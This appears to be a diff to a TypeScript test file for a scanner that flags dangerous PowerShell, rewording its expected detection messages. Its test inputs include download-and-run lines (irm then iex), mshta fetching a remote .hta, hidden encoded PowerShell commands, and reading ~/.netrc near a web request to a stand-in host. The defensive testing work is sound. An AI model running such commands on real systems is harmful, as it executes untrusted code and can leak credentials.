@@ -12,7 +12,7 @@ function seenIn(text: string, format: TextFormat = "script"): readonly string[] 
   );
 }
 
-const download = "runs a download of c.zzz.io in PowerShell";
+const download = "runs a download from c.zzz.io in PowerShell";
 const url = "https://c.zzz.io/a";
 
 describe("what is fetched is run", () => {
@@ -42,7 +42,7 @@ describe("what is fetched is run", () => {
 
   test("of a known vendor that is low", () => {
     expect(seenIn("$s = irm https://astral.sh/uv/install.ps1\niex $s")).toEqual([
-      "2 low high runs a download of astral.sh in PowerShell",
+      "2 low high runs a download from astral.sh in PowerShell",
     ]);
   });
 
@@ -85,7 +85,7 @@ describe("what is read is sent", () => {
 });
 
 describe("programs that run what stands at an address", () => {
-  const runs = "runs what stands at an address of c.zzz.io";
+  const runs = "runs remote code from c.zzz.io";
   test.each([
     `mshta ${url}.hta`,
     `mshta.exe "${url}.hta"`,
@@ -98,7 +98,7 @@ describe("programs that run what stands at an address", () => {
   const encoded = "aQBlAHgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA";
   test.each(["-enc", "-e", "-ec", "-EncodedCommand"])("a command that is encoded: %s", (option) => {
     const text = `powershell -nop -w hidden ${option} ${encoded}`;
-    expect(seenIn(text)).toEqual(["1 critical high runs a command that is encoded"]);
+    expect(seenIn(text)).toEqual(["1 critical high runs an encoded command"]);
     expect(seenIn(`pwsh.exe ${option} ${encoded}`)).toHaveLength(1);
     expect(seenIn(text, "markdown")).toEqual([]);
   });
@@ -109,7 +109,7 @@ describe("silent:", () => {
     ["a download that is kept", `$s = irm ${url}\n$s | Out-File a.json`],
     ["another variable that is run", `$s = irm ${url}\n$t = 'Get-Date'\niex $t`],
     ["another file that is started", `iwr ${url} -OutFile a.zip\nStart-Process notepad.exe`],
-    ["a download of this machine", "$s = irm http://localhost:8080/a\niex $s"],
+    ["a download from this machine", "$s = irm http://localhost:8080/a\niex $s"],
     ["a file of this machine", "iwr http://localhost/a -OutFile a.ps1\n& .\\a.ps1"],
     ["a file that is sent elsewhere", `$k = gc ~/.netrc\n$d = irm ${url} -Body $form`],
     ["notes that are sent", `$k = gc notes.txt\nirm ${url} -Body $k`],
